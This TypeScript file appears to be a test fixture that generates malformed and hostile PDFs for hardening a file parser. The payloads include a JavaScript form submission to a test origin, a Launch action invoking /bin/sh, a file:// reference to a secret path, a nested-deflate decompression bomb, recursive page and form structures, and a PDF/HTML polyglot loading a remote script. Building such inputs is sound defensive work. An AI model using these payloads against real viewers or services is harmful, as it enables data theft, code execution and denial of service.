import { deflateSync } from 'node:zlib';
import { noise, type HostileInput } from './hostile-input.ts';

/** A PDF of the given objects, numbered from 1; the first is the catalogue. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = pieces[0]?.length ?? 0;
  for (const [index, object] of objects.entries()) {
    const piece = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object as string),
      Buffer.from('\nendobj\n'),
    ]);
    offsets.push(length);
    pieces.push(piece);
    length += piece.length;
  }
  const lines = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const count = objects.length + 1;
  return Buffer.concat([
    ...pieces,
    Buffer.from(
      `xref\n0 ${count}\n0000000000 65535 f \n${lines}trailer\n<</Size ${count}/Root 1 0 R` +
        `${trailer}>>\nstartxref\n${length}\n%%EOF\n`,
    ),
  ]);
}

function stream(dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${data.length}>>stream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
}

const page = (more = '', box = '[0 0 200 200]') =>
  `<</Type/Page/Parent 2 0 R/MediaBox ${box}${more}>>`;
const pages = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const catalogue = (more = '') => `<</Type/Catalog/Pages 2 0 R${more}>>`;

export const pdfInputs: readonly HostileInput[] = [
  {
    name: 'PDF with actions, scripts and files elsewhere',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: ({ origin, secretPath }) =>
      pdfOf([
        catalogue(
          `/OpenAction<</S/JavaScript/JS(this.submitForm\\("${origin}/js"\\);)>>/AA<</WC<</S/Launch` +
            `/F(/bin/sh)>>>>/Names<</EmbeddedFiles<</Names[(a)<</F(file://${secretPath})>>]>>>>`,
        ),
        pages,
        page(
          `/AA<</O<</S/URI/URI(${origin}/page)>>>>/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>`,
        ),
        stream('', Buffer.from('/X Do')),
        stream(
          `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F(${origin}/ref)>>/Page 0>>`,
          Buffer.from(''),
        ),
      ]),
  },
  {
    name: 'PDF whose pages are their own parents',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () => pdfOf([catalogue(), '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>', page()]),
  },
  {
    name: 'PDF whose table of contents points at itself',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () => {
      const pdf = pdfOf([catalogue(), pages, page()]);
      const at = pdf.indexOf('xref\n');
      return Buffer.from(pdf.toString('latin1').replace('/Root', `/Prev ${at}/Root`), 'latin1');
    },
  },
  {
    name: 'PDF with a page of a million points',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () => pdfOf([catalogue(), pages, page('', '[0 0 10000000 10000000]')]),
  },
  {
    name: 'PDF with a stream that inflates a million times',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () => {
      const once = deflateSync(Buffer.alloc(400 * 1024 * 1024, ' '), { level: 9 });
      const twice = deflateSync(once, { level: 9 });
      return pdfOf([
        catalogue(),
        pages,
        page('/Contents 4 0 R'),
        stream('/Filter[/FlateDecode/FlateDecode]', twice),
      ]);
    },
  },
  {
    name: 'PDF that says it has two billion pages',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () => pdfOf([catalogue(), '<</Type/Pages/Kids[3 0 R]/Count 2147483647>>', page()]),
  },
  {
    name: 'PDF of one page, 50,000 times',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () =>
      pdfOf([
        catalogue(),
        `<</Type/Pages/Kids[${'3 0 R '.repeat(50_000)}]/Count 50000>>`,
        page('/Contents 4 0 R'),
        stream('', Buffer.from('0 0 m 9 9 l S')),
      ]),
  },
  {
    name: 'PDF whose forms draw each other',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () => {
      const form = (next: number) =>
        stream(
          `/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X ${next} 0 R>>>>`,
          Buffer.from('/X Do '.repeat(40)),
        );
      return pdfOf([
        catalogue(),
        pages,
        page('/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>'),
        stream('', Buffer.from('/X Do')),
        ...Array.from({ length: 8 }, (_, index) => form(index + 6)),
        form(5),
      ]);
    },
  },
  {
    name: 'PDF that is encrypted by a filter nobody has',
    filename: 'a.pdf',
    bytes: () =>
      pdfOf(
        [catalogue(), pages, page(), '<</Filter/Standard/V 99/R 99/O(x)/U(y)/P -1>>'],
        '/Encrypt 4 0 R/ID[(a)(b)]',
      ),
  },
  {
    name: 'PDF signature before noise',
    filename: 'a.pdf',
    bytes: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(20_000)]),
  },
  {
    name: 'PDF cut off',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: () => pdfOf([catalogue(), pages, page()]).subarray(0, 120),
  },
  {
    name: 'PDF that is HTML as well',
    filename: 'a.pdf',
    outcome: 'either',
    bytes: ({ origin }) =>
      Buffer.concat([
        Buffer.from(`%PDF-1.7\n%<script src="${origin}/polyglot"></script>\n`),
        pdfOf([catalogue(), pages, page()]),
      ]),
  },
];
